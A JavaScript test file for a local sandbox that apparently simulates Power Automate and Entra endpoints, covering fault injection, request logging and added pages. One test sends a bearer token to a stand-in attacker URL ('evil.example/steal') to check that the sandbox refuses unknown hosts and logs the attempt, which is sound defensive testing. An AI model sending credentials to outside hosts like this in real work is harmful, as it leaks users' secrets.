/** The switches that tests rely on: faults, the record of requests, added pages. */
import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { setTimeout as sleep } from "node:timers/promises";
import { send } from "../client.mjs";
import { startSandbox } from "../index.mjs";
import { assertRefused, deferred, discover, invoke, sandbox, world } from "./trial.mjs";

describe("faults", () => {
  test("answer instead of the service, for so many times, where they match", async () => {
    const fault = sandbox.fault({
      kind: "trigger",
      host: /environment\.api/,
      path: "/paths/invoke",
      method: "POST",
      times: 2,
      effect: { status: 503, json: { error: { code: "ServiceUnavailable", message: "busy" } } },
    });
    assertRefused(await invoke("echo"), 503, "ServiceUnavailable");
    assert.equal((await discover("echo")).status, 200);
    assert.equal((await invoke("oldHost")).status, 200);
    assert.equal((await invoke("echo")).status, 503);
    assert.equal((await invoke("echo")).status, 200);
    assert.equal(fault.hits, 2);
  });

  test("can be removed", async () => {
    const fault = sandbox.fault({ kind: "trigger", times: Infinity, effect: { status: 500 } });
    assert.equal((await invoke("echo")).status, 500);
    fault.remove();
    assert.equal((await invoke("echo")).status, 200);
  });

  test("drop the connection before the work, or after it", async () => {
    sandbox.fault({ kind: "trigger", effect: { drop: "before" } });
    await assert.rejects(invoke("echo"), { code: "ECONNRESET" });
    assert.equal(sandbox.runs.length, 0);
    sandbox.fault({ kind: "trigger", effect: { drop: "after" } });
    await assert.rejects(invoke("echo"), { code: "ECONNRESET" });
    assert.equal(sandbox.runs.length, 1);
    const [first] = sandbox.requests;
    assert.deepEqual([first.aborted, first.status], [true, null]);
  });

  test("replace the answer after the work", async () => {
    sandbox.fault({ kind: "trigger", effect: { status: 504, afterWork: true } });
    assert.equal((await invoke("echo")).status, 504);
    assert.equal(sandbox.runs.length, 1);
  });

  test("send garbage, or what is no HTTP at all", async () => {
    sandbox.fault({ kind: "flowApi", effect: { garbage: true } });
    const answer = await discover("echo");
    assert.deepEqual([answer.status, answer.json], [200, undefined]);
    sandbox.fault({ kind: "flowApi", effect: { garbage: "protocol" } });
    await assert.rejects(discover("echo"), /Parse Error/);
  });

  test("delay, alone or before another effect", async () => {
    const before = Date.now();
    sandbox.fault({ kind: "trigger", effect: { delayMs: 150 } });
    assert.equal((await invoke("echo")).status, 200);
    sandbox.fault({ kind: "trigger", effect: { delayMs: 150, status: 500 } });
    assert.equal((await invoke("echo")).status, 500);
    assert.ok(Date.now() - before >= 300);
  });

  test("hold a request until the test lets it go, and tell that it has come", async () => {
    const { promise, resolve: letGo } = deferred();
    const fault = sandbox.fault({ kind: "trigger", effect: { until: promise } });
    const answer = invoke("echo");
    await fault.reached;
    assert.deepEqual([fault.hits, sandbox.runs.length], [1, 0]);
    letGo();
    assert.equal((await answer).status, 200);
  });

  test("slow the body down, cut it short, or never answer", async () => {
    const whole = (await invoke("echo")).text;
    sandbox.fault({ kind: "trigger", effect: { slowBody: { chunkMs: 20, chunkBytes: 10 } } });
    const before = Date.now();
    assert.equal((await invoke("echo")).text, whole);
    assert.ok(Date.now() - before >= 100);
    sandbox.fault({ kind: "trigger", effect: { dropBodyAfter: 10 } });
    await assert.rejects(invoke("echo"), { code: "ECONNRESET" });
    sandbox.fault({ kind: "trigger", effect: { hang: true } });
    const outcome = await Promise.race([
      invoke("echo").then(
        () => "answered",
        () => "cut",
      ),
      sleep(200, "waiting"),
    ]);
    assert.equal(outcome, "waiting");
  });

  test("reach Entra's token endpoint as well", async () => {
    sandbox.fault({ kind: "entra", path: "/oauth2/v2.0/token", effect: { status: 503 } });
    const url = `${world.tenants.contoso.authority}/oauth2/v2.0/token`;
    assert.equal((await send(sandbox, url, { body: "grant_type=x" })).status, 503);
    assert.equal((await send(sandbox, url, { body: "grant_type=x" })).status, 400);
  });

  test("leave preflights alone unless they name them", async () => {
    sandbox.fault({ host: "environment.api", effect: { status: 500 } });
    const preflight = () =>
      send(sandbox, sandbox.flow("echo").triggerUrl(), {
        method: "OPTIONS",
        headers: { origin: world.orgs.contoso.url, "access-control-request-method": "POST" },
      });
    assert.equal((await preflight()).status, 200);
    sandbox.fault({ kind: "preflight", effect: { status: 500 } });
    assert.equal((await preflight()).status, 500);
  });
});

describe("the sandbox", () => {
  test("answers 421 to a host it does not know, and writes it down", async () => {
    const answer = await send(sandbox, "https://evil.example/steal?x=1", { bearer: "secret" });
    assert.equal(answer.status, 421);
    const [entry] = sandbox.requests;
    assert.deepEqual(
      [entry.kind, entry.host, entry.query],
      ["unknown", "evil.example", { x: "1" }],
    );
    assert.equal(entry.bearer.token, "secret");
  });

  test("records what was sent, where, by whom and how it ended", async () => {
    await invoke("echo", { as: "bob", json: { a: 1 } });
    const [entry] = sandbox.requests;
    assert.equal(entry.kind, "trigger");
    assert.equal(entry.method, "POST");
    assert.equal(entry.host, world.orgs.contoso.environmentHost);
    assert.equal(entry.body, '{"a":1}');
    assert.equal(entry.user, "bob");
    assert.equal(entry.bearer.claims.oid, world.users.bob.oid);
    assert.equal(entry.status, 200);
    await sleep(20);
    assert.equal(typeof entry.durationMs, "number");
    assert.equal(entry.aborted, false);
    assert.ok(sandbox.secrets.has(entry.bearer.token));
  });

  test("serves the pages that tests add, on any host", async () => {
    sandbox.page("contoso.crm4.dynamics.com", "/hello", { body: "<p>Hi" });
    sandbox.page("elsewhere.example", "/x.json", { handler: (_req, res) => res.end("{}") });
    const hello = await send(sandbox, "https://contoso.crm4.dynamics.com/hello");
    assert.deepEqual([hello.status, hello.text], [200, "<p>Hi"]);
    assert.match(hello.headers["content-type"], /^text\/html/);
    assert.equal((await send(sandbox, "https://elsewhere.example/x.json")).text, "{}");
    assert.equal((await send(sandbox, "https://elsewhere.example/y")).status, 404);
    assert.equal((await send(sandbox, "https://contoso.crm4.dynamics.com/nope")).status, 404);
  });

  test("lives beside another one, with another world", async () => {
    const other = await startSandbox();
    try {
      other.flow("echo").switchOff();
      assert.equal((await invoke("echo")).status, 200);
      const bearer = await sandbox.mint();
      const foreign = await send(other, other.flow("echo").triggerUrl(), { json: {}, bearer });
      assert.equal(foreign.json.error.code, "InvalidAuthenticationToken");
    } finally {
      await other.close();
    }
  });
});
